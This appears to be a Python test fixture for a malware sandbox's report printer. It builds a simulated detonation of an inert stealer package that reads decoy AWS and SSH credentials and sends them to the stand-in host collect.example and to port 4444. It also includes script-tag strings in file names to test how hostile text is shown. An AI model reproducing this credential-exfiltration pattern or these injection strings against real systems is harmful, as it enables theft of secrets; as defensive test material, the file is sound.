"""A detonation to print: an inert stealer as it would be seen, with text that an attacker might have written."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from stockade.act.report.observed import Carried, DetonationReport
from stockade.model.evidence import Gap, GapKind
from stockade.model.observation import Act, Decoy, Dropped, Event, Exchange, Observation, Ran, Stage
from tests.support.reports import BLOCKED, CLEAN, NASTY, SHA_A, SHA_B

KEY = Decoy(marker=b"AKIAINERT0001", where="~/.aws/credentials", what="AWS access key")
TOKEN = Decoy(marker=b"inert-token-2", where="PYPI_TOKEN", what="token of an index")
SSH = Decoy(marker=b"inert-ssh-3", where="~/.ssh/id_ed25519", what="SSH key")
METADATA = Decoy(marker=b"inert-meta-4", where="http://169.254.169.254/", what="token of a cloud's machine")


def ran(seconds: float, stage: Stage, what: str, code: int | None = 0, took: float = 0.3) -> Ran:
    return Ran(seconds=seconds, stage=stage, what=what, code=code, took=took)


def event(seconds: float, stage: Stage, act: Act, what: str, process: int = 4, failed: str = "") -> Event:
    return Event(seconds=seconds, stage=stage, act=act, what=what, process=process, failed=failed)


def exchange(
    seconds: float, stage: Stage, protocol: str, host: str, port: int, sent: bytes, summary: str = ""
) -> Exchange:
    return Exchange(
        seconds=seconds, stage=stage, protocol=protocol, host=host, port=port, sent=sent, summary=summary
    )


LOOKUP = exchange(
    6.42, Stage.IMPORT, "dns", "collect.example", 53, b"\x01\x00collect\x07example", "A collect.example"
)
POST = exchange(
    6.47,
    Stage.IMPORT,
    "https",
    "collect.example",
    443,
    b"POST /c HTTP/1.1\r\nHost: collect.example\r\n\r\n"
    + NASTY.encode("utf-8", "surrogateescape")
    + b"QUtJQUlORVJUMDAwMQ==",
    "POST /c",
)
TOUCHED = replace(exchange(11.2, Stage.TOUCH, "tcp", "2001:db8::1", 4444, b"inert-token-2 " * 40), cut=True)
OBSERVATION = Observation(
    filename="clock_drift-1.0.tar.gz",
    sha256=SHA_A,
    started=datetime(2030, 1, 10, 12, tzinfo=UTC),
    walls=("landlock-files", "seccomp", "network"),
    decoys=(KEY, TOKEN, SSH, METADATA),
    ran=(
        ran(0.4, Stage.BUILD, "build: get_requires_for_build_wheel", took=1.1),
        ran(1.6, Stage.BUILD, "build: build_wheel", took=1.9),
        ran(3.7, Stage.INSTALL, "install clock_drift-1.0-py3-none-any.whl", took=0.8),
        ran(5.0, Stage.STARTUP, "python -c pass", took=0.2),
        ran(6.2, Stage.IMPORT, "import clock_drift", took=0.9),
        ran(7.3, Stage.IMPORT, f"import {NASTY}", code=1, took=0.1),
        ran(8.0, Stage.SCRIPT, "clock-drift --help", code=None, took=2.5),
        ran(10.8, Stage.TOUCH, "use clock_drift", took=3.1),
    ),
    events=(
        event(0.2, Stage.BUILD, Act.READ, "/etc/hosts"),
        *(
            event(1.7 + n / 40, Stage.BUILD, Act.READ, f"/var/cache/work/source/part{n}.py")
            for n in range(40)
        ),
        event(2.9, Stage.BUILD, Act.EXECUTE, "/usr/bin/gcc -c iron.c"),
        event(2.95, Stage.BUILD, Act.PROCESS, "started", process=9),
        event(6.3, Stage.IMPORT, Act.READ, "/home/lena/.aws/credentials"),
        event(6.35, Stage.IMPORT, Act.READ, "/home/lena/.ssh/id_ed25519", failed="EACCES"),
        event(6.45, Stage.IMPORT, Act.CONNECT, "198.51.100.7:443"),
        event(6.5, Stage.IMPORT, Act.WRITE, f"/home/lena/.config/{NASTY}<script>alert(1)</script>"),
        event(6.6, Stage.IMPORT, Act.COLOUR, "socket.connect ('198.51.100.7', 443)"),
        *(event(11.0 + n / 100, Stage.TOUCH, Act.WRITE, f"/tmp/out/{n}.bin") for n in range(30)),
    ),
    exchanges=(LOOKUP, POST, TOUCHED),
    dropped=tuple(
        Dropped(path=f"~/.cache/{name}", size=size, sha256=SHA_B)
        for name, size in (("updater", 48_128), (f"{NASTY}<b>", 1), *((f"more{n}", n) for n in range(8)))
    ),
    gaps=(
        Gap(kind=GapKind.SCOPE, what="clock-drift --help", why="it was stopped after 15 s"),
        Gap(kind=GapKind.LIMIT, what=f"<i>{NASTY}", why="it could not be installed"),
        *(Gap(kind=GapKind.SCOPE, what=f"thing {n}", why="it was not tried") for n in range(9)),
    ),
)
DETONATION = DetonationReport(
    artifact=replace(BLOCKED, artifact="clock_drift-1.0.tar.gz"),
    observation=OBSERVATION,
    carried=(
        Carried(exchange=POST, decoy=KEY, how="base64"),
        Carried(exchange=TOUCHED, decoy=TOKEN),
    ),
    policy="built-in defaults",
    notes=("nothing was left out",),
)
#: Nothing was run, nothing seen.
NOTHING = DetonationReport(
    artifact=CLEAN,
    observation=Observation(
        filename="still-1.0.tar.gz", sha256=SHA_B, started=datetime(2030, 1, 10, tzinfo=UTC)
    ),
)
